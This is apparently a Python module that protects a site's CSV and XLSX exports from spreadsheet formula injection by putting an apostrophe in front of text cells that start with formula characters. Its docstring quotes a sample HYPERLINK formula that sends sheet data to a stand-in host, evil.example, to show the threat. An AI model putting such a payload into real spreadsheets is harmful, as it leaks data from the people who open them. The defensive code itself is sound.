"""Cells of every CSV and XLSX the site writes, made safe to open in a spreadsheet program.

A player, club or tournament name is typed by people; one starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(`=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet's data away when clicked).
As OWASP's "CSV injection" page recommends, such a text is written with a leading
apostrophe, which every spreadsheet shows as text. Only strings are touched: a figure stays a
number (a negative points difference is a number, not a formula), so sums still work.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# What makes a spreadsheet read a text cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """`value` as a spreadsheet cell: a text that would start a formula gets a leading
    apostrophe; anything else (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_safe(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through `cell_safe`: what every CSV and XLSX writer appends."""
    return [cell_safe(value) for value in values]
